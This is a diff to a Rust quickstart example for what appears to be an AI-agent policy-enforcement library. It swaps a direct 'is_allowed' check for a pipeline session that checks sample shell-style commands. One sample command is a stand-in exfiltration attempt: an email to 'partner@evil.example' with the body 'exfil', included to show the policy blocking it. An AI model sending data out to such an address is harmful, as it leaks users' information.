@@ -8,7 +8,7 @@
 //! Run with: `cargo run --example quickstart`
 
 use conseca_agent::build_trusted_context;
-use conseca_core::{is_allowed, render_policy, PolicyGenerator};
+use conseca_core::{render_policy, PipelineBuilder, PolicyGenerator};
 use conseca_llm::TemplatePolicyModel;
 use conseca_mail::MailSystem;
 use conseca_shell::{default_registry, parse_command};
@@ -36,14 +36,18 @@ fn main() {
     println!("generated policy ({} prompt tokens):\n", stats.prompt_tokens);
     println!("{}", render_policy(&policy));
 
-    // is_allowed(cmd, policy) -> (bool, rationale)  (the paper's second API).
+    // Enforcement: a single-layer pipeline over the generated policy —
+    // semantically identical to the paper's `is_allowed(cmd, policy)`,
+    // but the verdicts carry layer provenance and the session keeps
+    // per-task state once more layers are stacked on.
+    let mut session = PipelineBuilder::new().policy(&policy).build();
     for cmd in [
         "send_email alice bob@work.com 'urgent: rack 4' 'On it.'",
         "send_email alice partner@evil.example 'urgent: rack 4' 'exfil'",
         "delete_email 7",
     ] {
         let call = parse_command(cmd, &registry).unwrap();
-        let decision = is_allowed(&call, &policy);
-        println!("{}", decision.feedback(&call));
+        let verdict = session.check(&call);
+        println!("[{}] {}", verdict.decided_by, verdict.feedback(&call));
     }
 }
